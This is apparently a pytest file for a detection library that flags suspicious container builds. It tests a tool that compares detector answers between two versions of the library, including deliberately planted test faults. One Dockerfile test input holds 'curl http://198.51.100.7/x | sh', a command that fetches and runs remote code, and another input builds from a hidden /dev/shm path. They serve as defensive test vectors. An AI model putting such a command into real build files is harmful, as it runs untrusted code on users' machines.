"""What holds two states of the library against each other sees what it is there to see."""

from __future__ import annotations

import json
import shutil
from collections import Counter
from pathlib import Path
from typing import Any

import pytest

from t1612core import CATALOG, HARDENED, SENTINEL, Detector, EventError, score_dockerfile

from ..conftest import ROOT
from . import compare, generator, inputs, recording
from .differences import Difference, Meant, differences, load, table, unmeant
from .inputs import Input

# An event with three signals, one below the threshold, one that is rejected, a Dockerfile, a chain.
FOUND = {"FileName": "docker", "ProcessCommandLine": "docker build --no-cache -t a /dev/shm/.x"}
QUIET = {"FileName": "docker", "ProcessCommandLine": "docker build ."}
GIVEN = [
    Input("found", "process", FOUND),
    Input("quiet", "process", QUIET),
    Input("rejected", "process", {"FileName": "docker", "ProcessCommandLine": 7}),
    Input("file", "dockerfile", {"text": "FROM a\nRUN curl http://198.51.100.7/x | sh\n"}),
    Input("chain", "chain", [{**FOUND, "TimeGenerated": "2026-01-01T00:00:00Z"}, {"FileName": 7}]),
]
ANSWERS = [json.loads(line) for line in recording.record(GIVEN)]
ANSWER = {answer["input"][0]: answer for answer in ANSWERS}


def changed(name: str, path: str, value: Any) -> list[Difference]:
    """Change one value in a recorded answer; give what is seen of it."""
    after = json.loads(json.dumps(ANSWER[name]))
    *steps, last = path.split("/")
    held = after
    for step in steps:
        held = held[int(step) if isinstance(held, list) else step]
    held[int(last) if isinstance(held, list) else last] = value
    return differences(ANSWER[name], after)


SIGNAL = "hardened.explained/0/signals/process.temp_source"
LIGHTER: Any = ["fired", [2, "command_line", "/dev/shm/.x", [30, 41]]]
DRIFTS = [
    ("found", "hardened.finding/score", 7, "hardened.finding.score"),
    ("found", "hardened.finding/evidence/0/3", "/dev", "hardened.finding.evidence"),
    ("found", "hardened.finding/evidence/0/4", [0, 1], "hardened.finding.evidence"),
    ("found", "hardened.finding/attack", [], "hardened.finding.attack"),
    ("found", "hardened.finding", None, "hardened.finding"),
    ("found", "sentinel.finding", None, "sentinel.finding"),
    ("found", "sentinel.explained/0/score", 9, "sentinel.score"),
    ("found", f"{SIGNAL}/0", "not evaluable", "hardened.signal"),
    ("found", f"{SIGNAL}/1/0", 2, "hardened.signal"),
    ("found", f"{SIGNAL}/1/1", "url", "hardened.field"),
    ("found", f"{SIGNAL}/1/2", "/dev", "hardened.text"),
    ("found", f"{SIGNAL}/1/3", [0, 1], "hardened.span"),
    ("quiet", "hardened.explained/0/open", False, "hardened.open"),
    ("quiet", "hardened.explained/0/score", 1, "hardened.score"),
    ("quiet", "hardened.explained/0/detail", "", "hardened.detail"),
    ("quiet", "kind", None, "kind"),
    ("found", "steps", [], "steps"),
    ("found", "steps/0/links", [], "steps.links"),
    ("found", "steps/0/score", 0, "steps.score"),
    ("rejected", "hardened.finding", None, "hardened.finding"),
    ("rejected", "hardened.finding/raised", "KeyError", "hardened.finding.raised"),
    ("rejected", "steps/raised", "KeyError", "steps.raised"),
    ("file", "dockerfile/score", 0, "dockerfile.score"),
    ("file", "dockerfile/evidence/0/1", 1, "dockerfile.signal"),
    ("file", "dockerfile/evidence/0/3", "x", "dockerfile.evidence"),
    ("file", "dockerfile/evidence/0/4", [0, 1], "dockerfile.evidence"),
    ("file", "dockerfile/is_truncated", True, "dockerfile.is_truncated"),
    ("chain", "incidents", [], "incidents"),
    ("chain", "incidents/0/severity", "low", "incidents.severity"),
    ("chain", "rejected", [], "rejected"),
]


@pytest.mark.parametrize(("name", "path", "value", "part"), DRIFTS, ids=lambda x: str(x)[:60])
def test_each_point_of_an_answer_is_compared(name: str, path: str, value: Any, part: str) -> None:
    assert part in {each.part for each in changed(name, path, value)}


def test_the_same_answer_is_the_same() -> None:
    assert [] == [each for answer in ANSWERS for each in differences(answer, answer)]
    assert ANSWERS == [json.loads(line) for line in recording.record(GIVEN)]


def test_what_is_not_there_on_one_side_is_told_once() -> None:
    after = json.loads(json.dumps(ANSWER["found"]))
    del after["hardened.explained"][0]["signals"]["process.temp_source"]
    del after["hardened.finding"]["evidence"][0]

    assert [
        ("hardened.finding.order", "changed"),
        ("hardened.signal", "process.temp_source fired 3 -> nothing"),
    ] == [(each.part, each.change) for each in differences(ANSWER["found"], after)]


def test_answers_to_two_inputs_are_not_compared() -> None:
    with pytest.raises(ValueError, match="two inputs"):
        differences(ANSWER["found"], ANSWER["quiet"])


# --- What is meant ---


def meant(**told: Any) -> Meant:
    return Meant(**{"id": "m", "reason": "r", "parts": ("hardened.signal",), **told})


def lighter() -> list[Difference]:
    """Give what a signal that weighs less brings about."""
    after = json.loads(json.dumps(ANSWER["found"]))
    after["hardened.explained"][0]["signals"]["process.temp_source"] = LIGHTER
    after["hardened.explained"][0]["score"] -= 1
    after["hardened.finding"]["score"] -= 1
    id, (_, (weight, *place)) = "process.temp_source", LIGHTER
    assert id == after["hardened.finding"]["evidence"][0][0]
    after["hardened.finding"]["evidence"][0] = [id, weight, *place]
    after["steps"][0]["score"] -= 1
    return differences(ANSWER["found"], after)


def test_a_listed_signal_takes_along_what_follows_from_it() -> None:
    seen: Counter[str] = Counter()
    listed = [
        meant(parts=["hardened.signal", "hardened.span"], subjects=["process.temp_source"]),
    ]

    assert {"hardened.signal", "hardened.span", "hardened.score"} <= {e.part for e in lighter()}
    assert [] == unmeant(lighter(), listed, seen)
    assert 2 == seen["m"]


@pytest.mark.parametrize(
    "told",
    [
        {"subjects": ["process.hidden_source"]},
        {"inputs": ["generated/*"]},
        {"verbs": ["file"]},
        {"changes": ["* -> nothing"]},
        {"parts": ["hardened.text"]},
    ],
    ids=str,
)
def test_what_no_line_takes_is_left_without_what_follows(told: dict[str, Any]) -> None:
    parts = {each.part for each in unmeant(lighter(), [meant(**told)], Counter())}

    assert "hardened.signal" in parts
    assert "hardened.score" not in parts


def test_a_score_is_left_beside_what_does_not_decide_it() -> None:
    parts = ("hardened.score", "hardened.span")
    found = [each for each in lighter() if each.part in parts]

    assert parts == tuple(each.part for each in unmeant(found, [], Counter()))[::-1]


def test_a_score_without_a_signal_follows_from_nothing() -> None:
    found = changed("found", "hardened.finding/score", 7)
    listed = [meant(parts=["hardened.text"])]

    assert found == unmeant(found, listed, Counter())


@pytest.mark.parametrize("path", ["sentinel.finding", "sentinel.explained"])
def test_sentinel_is_never_meant(path: str) -> None:
    found = changed("found", path, None if path.endswith("finding") else [])

    assert found == unmeant(found, [meant(parts=["*"])], Counter())


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ('id = "a"\nparts = ["kind"]', "'reason' is missing"),
        ('id = "a"\nreason = "r"', "'parts' is missing"),
        ('id = "a"\nreason = "r"\nparts = ["kind"]\nsubject = "x"', "no key 'subject'"),
        ('id = "a"\nreason = "r"\nparts = ["sentinel.score"]', "differs nowhere"),
        ('id = "a"\nreason = "r"\nparts = ["*.score"]', "differs nowhere"),
        ('id = "a"\nreason = "r"\nparts = ["s*"]', "differs nowhere"),
    ],
)
def test_a_line_that_says_too_little_or_too_much_is_refused(
    text: str, said: str, tmp_path: Path
) -> None:
    path = tmp_path / "expected.toml"
    path.write_text(f"[[difference]]\n{text}\n", "utf-8")

    with pytest.raises(ValueError, match=said):
        load(path)


def test_the_list_of_this_tree_can_be_read() -> None:
    ids = [line.id for line in load(compare.EXPECTED)]

    assert sorted(set(ids)) == sorted(ids)


def test_the_table_counts_groups_and_is_cut() -> None:
    one, two = lighter()[:2]
    groups = {("process", str(n), each.change): (n, each) for n, each in enumerate((one, two), 1)}

    assert table(groups).splitlines()[1].split()[:2] == ["2", "process"]
    assert "and 1 more groups" == table(groups, most=1).splitlines()[-1]
    assert "no difference" == table({})


# --- The whole: two trees, two processes ---


def planted(folder: Path, fault: str) -> Path:
    """Copy the library and add a fault to what it gives away."""
    package = folder / "src" / "t1612core"
    shutil.copytree(ROOT / "src" / "t1612core", package, ignore=shutil.ignore_patterns("*.pyc"))
    with (package / "__init__.py").open("a", encoding="utf-8") as module:
        module.write(f"\n{NAMES}{fault}\n")
    return folder


# Nothing but the package's own names is there before somebody asks.
NAMES = """
from attrs import evolve as _evolve
from .knowledge.profiles import HARDENED, SENTINEL
from .model import Finding
"""
HEAVIER = """
def _heavier(profile, id):
    def heavier(branch):
        return _evolve(branch, weights=tuple((i, w + (i == id)) for i, w in branch.weights))
    return _evolve(profile, branches=tuple(map(heavier, profile.branches)))
"""
FAULTS = {
    "weight": (f"{HEAVIER}HARDENED = _heavier(HARDENED, 'process.temp_source')", "hardened.signal"),
    "rule": (
        f"{HEAVIER}SENTINEL = _heavier(SENTINEL, 'process.suspicious_parent')",
        "sentinel.signal",
    ),
    "span": (
        "_told = Finding.evidence.fget\n"
        "Finding.evidence = property(lambda f: tuple(_evolve(e, span=None) for e in _told(f)))",
        "hardened.finding.evidence",
    ),
    "error": ("def score_dockerfile(text): raise KeyError(text)", "dockerfile.raised"),
}


def run(before: Path, capsys: pytest.CaptureFixture[str], *told: str) -> tuple[int, str]:
    code = compare.main(
        ["--before", str(before), "--generated-only", "--events", "150", "--jobs", "1", *told]
    )
    return code, capsys.readouterr().out


@pytest.mark.no_cover  # repeats at length what others run
@pytest.mark.parametrize("fault", FAULTS)
def test_a_planted_fault_fails(
    fault: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, shown = run(planted(tmp_path, FAULTS[fault][0]), capsys)

    assert 1 == code
    assert FAULTS[fault][1] in shown


@pytest.mark.no_cover  # repeats at length what others run
def test_a_fault_that_is_listed_passes_and_one_that_is_not_seen_is_told(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "expected.toml"
    lines = [("weight", "process.temp_source"), ("gone", "process.no_such_signal")]
    path.write_text(
        "".join(
            f'[[difference]]\nid = "{id}"\nreason = "weighs more"\nparts = ["hardened.signal"]\n'
            f'subjects = ["{subject}", "process.*_lineage", "process.user_session"]\n'
            for id, subject in lines
        )
        + '[[difference]]\nid = "follows"\nreason = "what follows from the weight"\n'
        'parts = ["hardened.finding", "hardened.score", "steps.*"]\n',
        "utf-8",
    )
    before = planted(tmp_path, FAULTS["weight"][0])
    code, shown = run(before, capsys, "--expected", str(path))

    assert (0, True) == (code, "no difference" in shown), shown
    assert "meant: gone: NO LONGER SEEN" in shown


@pytest.mark.no_cover  # repeats at length what others run
def test_the_same_tree_has_no_difference(capsys: pytest.CaptureFixture[str]) -> None:
    code, shown = run(ROOT, capsys)

    assert (0, True) == (code, "150 compared\nno difference" in shown), shown


def test_sources_that_are_not_the_ones_meant_are_refused(tmp_path: Path) -> None:
    (tmp_path / "src").mkdir()
    block = compare.Block(("generated", "0", "1"), 1)

    with pytest.raises(RuntimeError, match="and not below"):
        compare._answers(block, tmp_path / "src")


def test_an_input_is_shown_by_its_name(capsys: pytest.CaptureFixture[str]) -> None:
    kind, event = list(generator.block(3, 18))[17]

    assert 0 == compare.main(["--show", "generated/3/17"])
    assert {"verb": kind, "given": event} == json.loads(capsys.readouterr().out)
    assert 1 == compare.main(["--show", "vectors/no/such"])


# --- What is given ---


def test_the_same_seed_makes_the_same_events() -> None:
    made = list(generator.block(1, 500))

    assert made == list(generator.block(1, 500))
    assert made != list(generator.block(2, 500))


@pytest.mark.no_cover  # repeats at length what others run
def test_generated_events_reach_past_the_gates_and_are_found() -> None:
    """Most of what is generated has to be read, or nothing would be compared."""
    detector = Detector()
    counted: Counter[str] = Counter()
    fired: set[str] = set()
    for kind, given in generator.events(6_000, 7):
        counted[kind] += 1
        if kind == "dockerfile":
            fired.update(score_dockerfile(given["text"]).signals)
            continue
        try:
            branches = detector.explain(given, kind=kind).branches
        except EventError:
            counted["rejected"] += 1
            continue
        counted[f"{kind} past its gate"] += any(branch.is_open for branch in branches)
        counted[f"{kind} found"] += any(b.score >= b.branch.threshold for b in branches)
        fired |= {each.signal.id for b in branches for each in b.signals if each.state == "fired"}

    for kind in ("process", "file", "network"):
        assert counted[kind] / 3 < counted[f"{kind} past its gate"], counted
        assert counted[kind] / 20 < counted[f"{kind} found"] < counted[kind] / 2, counted
    assert 0 < counted["rejected"] < 400, counted
    # Of engines Defender sends nothing.
    read = [branch for branch in HARDENED.branches if branch.kind != "daemon"]
    # A million long texts would take a day.
    weighed = {id for branch in read for id, _ in branch.weights if "oversized" not in id}
    assert 0.9 < len(fired & weighed) / len(weighed), sorted(weighed - fired)


def test_generated_events_fire_all_that_the_rule_weighs() -> None:
    weighed = {id for branch in SENTINEL.branches for id, weight in branch.weights if weight}
    detector = Detector(SENTINEL)
    fired: set[str] = set()
    for kind, given in generator.events(3_000, 7):
        if kind != "dockerfile" and isinstance(given.get("RemotePort", 0), (int, type(None))):
            try:
                finding = detector.find(given, kind)
            except EventError:
                continue
            fired.update(finding.signals if finding else ())

    assert weighed == fired
    assert fired <= CATALOG.keys()


def test_what_is_written_holds_every_vector_and_all_verbs() -> None:
    found = list(inputs.written(ROOT, None))
    lines = {str(e.given.get("ProcessCommandLine")) for e in found if e.verb == "process"}
    texts = {e.given["text"] for e in found if e.verb == "dockerfile"}
    vectors = [
        (path, vector)
        for path in (ROOT / "tests" / "vectors").rglob("*.json")
        for vector in json.loads(path.read_text("utf-8"))
    ]

    assert {"process", "file", "network", "dockerfile", "chain"} == {each.verb for each in found}
    for path, vector in vectors:
        text = vector.get("input")
        if path.parent.name == "dockerfile" and isinstance(text, str) and len(text) > 2:
            assert text in texts, vector["id"]
        line = (vector.get("event") or {}).get("ProcessCommandLine")
        assert line is None or str(line) in lines, vector["id"]
